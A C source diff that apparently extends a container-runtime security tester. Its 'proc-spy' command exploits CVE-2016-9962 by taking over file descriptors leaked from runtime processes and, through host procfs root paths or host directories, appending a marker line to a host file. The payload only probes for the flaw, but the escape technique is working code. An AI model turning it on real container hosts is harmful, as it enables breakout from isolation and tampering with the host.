@@ -27,6 +27,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
+#include <linux/magic.h>
 #include <linux/reboot.h>
 #include <netinet/in.h>
 #include <sched.h>
@@ -40,6 +41,7 @@
 #include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/statfs.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/types.h>
@@ -669,6 +671,115 @@ static int cmd_exe_attack(const char *fifo, const char *secs)
 	return 0;
 }
 
+/* The distinct `fd=N TARGET kind=KIND` findings of proc-spy, with how often each was seen. */
+static struct {
+	char what[PATH_MAX + 16];
+	const char *kind;
+	int count;
+} fd_notes[64];
+static int nfd_notes;
+
+static void note_fd(const char *fd, const char *target, const char *kind)
+{
+	char what[sizeof fd_notes[0].what];
+	snprintf(what, sizeof what, "%s %s", fd, target);
+	for (int i = 0; i < nfd_notes; i++)
+		if (strcmp(fd_notes[i].what, what) == 0 && fd_notes[i].kind == kind) {
+			fd_notes[i].count++;
+			return;
+		}
+	if (nfd_notes == 64)
+		return;
+	snprintf(fd_notes[nfd_notes].what, sizeof what, "%s", what);
+	fd_notes[nfd_notes].kind = kind;
+	fd_notes[nfd_notes++].count = 1;
+}
+
+static int same_file(int fd, const struct stat *st)
+{
+	struct stat fst;
+	return fstat(fd, &fst) == 0 && fst.st_dev == st->st_dev && fst.st_ino == st->st_ino;
+}
+
+/* Appends to FILE beneath DIRFD; 1 when that worked. */
+static int append_at(int dirfd, const char *file)
+{
+	int w = openat(dirfd, file, O_WRONLY | O_APPEND | O_CLOEXEC);
+	if (w < 0)
+		return 0;
+	int ok = write(w, "escaped\n", 8) == 8;
+	close(w);
+	return ok;
+}
+
+/*
+ * Classifies fd NAME of a process (FDDIR is its /proc/PID/fd) whose link reads TARGET, as
+ * seen from the container whose root is ROOT: "container-root" (our own root),
+ * "container-proc" (a procfs whose pid 1 has our root: the container's pid namespace),
+ * "container-proc-file" (a file of our /proc), "host-proc" (any other procfs: its pid 1's
+ * root is outside), "host-dir" or "host-file".
+ * Through a host one, it tries to append to HOSTFILE (an absolute host path): beneath the
+ * directory, or beneath the procfs's 1/root. Returns 1 if HOSTFILE was written.
+ */
+static int spy_fd(int fddir, const char *name, const char *target, const struct stat *root,
+		  const char *hostfile, const char **kind)
+{
+	struct statfs sfs;
+	struct stat st;
+	char rel[PATH_MAX + 16];
+	int escaped = 0, fd = openat(fddir, name, O_PATH | O_CLOEXEC);
+	*kind = "gone";
+	if (fd < 0 || fstat(fd, &st) < 0 || fstatfs(fd, &sfs) < 0) {
+		if (fd >= 0)
+			close(fd);
+		return 0;
+	}
+	if (sfs.f_type == PROC_SUPER_MAGIC && S_ISDIR(st.st_mode)) {
+		int init_root = openat(fd, "1/root", O_PATH | O_DIRECTORY | O_CLOEXEC);
+		if (init_root >= 0 && same_file(init_root, root)) {
+			*kind = "container-proc";
+		} else {
+			/* Any process of that procfs whose root is the host's will do (pid 1
+			 * may be out of reach): the runtime's own parent, a shell... */
+			*kind = "host-proc";
+			int dfd = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+			DIR *d = dfd < 0 ? NULL : fdopendir(dfd);
+			struct dirent *de;
+			while (d && !escaped && (de = readdir(d)))
+				if (is_pid_name(de->d_name)) {
+					snprintf(rel, sizeof rel, "%s/root%s", de->d_name, hostfile);
+					escaped = append_at(fd, rel);
+				}
+			if (d)
+				closedir(d);
+			else if (dfd >= 0)
+				close(dfd);
+		}
+		if (init_root >= 0)
+			close(init_root);
+	} else if (S_ISDIR(st.st_mode)) {
+		size_t tl = strlen(target);
+		if (same_file(fd, root)) {
+			*kind = "container-root";
+		} else {
+			*kind = "host-dir";
+			/* HOSTFILE below the directory, as the host names it. */
+			if (strcmp(target, "/") == 0)
+				escaped = append_at(fd, hostfile + 1);
+			else if (strncmp(hostfile, target, tl) == 0 && hostfile[tl] == '/')
+				escaped = append_at(fd, hostfile + tl + 1);
+		}
+	} else {
+		/* A file of the container's own /proc (e.g. a sysctl libcap reads). */
+		struct stat proc;
+		*kind = sfs.f_type == PROC_SUPER_MAGIC && stat("/proc", &proc) == 0 && proc.st_dev == st.st_dev
+				? "container-proc-file"
+				: "host-file";
+	}
+	close(fd);
+	return escaped;
+}
+
 /*
  * `proc-spy NAME SECONDS HOSTFILE` (CVE-2016-9962): for SECONDS, watches /proc for
  * processes whose command line contains NAME (the runtime's process joining the
@@ -676,9 +787,11 @@ static int cmd_exe_attack(const char *fifo, const char *secs)
  * when that works and the executable is still the runtime's (not on our root
  * filesystem), reads its fd links and tries to append to HOSTFILE through
  * /proc/PID/root and /proc/PID/cwd.
+ * Every fd >= 3 of a caught process whose target is a path is classified by spy_fd()
+ * (and used to reach HOSTFILE where it leads outside the container).
  * Prints seen= (runtime processes seen), protected= (exe refused), caught= (exe of the
- * runtime opened), escaped= (HOSTFILE written), and one `fd=N TARGET` line per fd >= 3
- * of a caught process whose target is a path.
+ * runtime opened), escaped= (HOSTFILE written), and one `fd=N TARGET kind=KIND count=C`
+ * line per distinct fd, target and kind seen in caught processes.
  */
 static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile)
 {
@@ -731,8 +844,11 @@ static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile
 				if (n <= 0 || !is_pid_name(fe->d_name) || atoi(fe->d_name) < 3)
 					continue;
 				target[n] = '\0';
-				if (target[0] == '/')
-					printf("fd=%s %s\n", fe->d_name, target);
+				if (target[0] != '/')
+					continue;
+				const char *kind = "";
+				escaped += spy_fd(dirfd(fds), fe->d_name, target, &root, hostfile, &kind);
+				note_fd(fe->d_name, target, kind);
 			}
 			if (fds)
 				closedir(fds);
@@ -749,6 +865,8 @@ static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile
 		}
 		closedir(d);
 	}
+	for (int i = 0; i < nfd_notes; i++)
+		printf("fd=%s kind=%s count=%d\n", fd_notes[i].what, fd_notes[i].kind, fd_notes[i].count);
 	printf("seen=%d\nprotected=%d\ncaught=%d\nescaped=%d\n", seen, protected, caught, escaped);
 	return 0;
 }
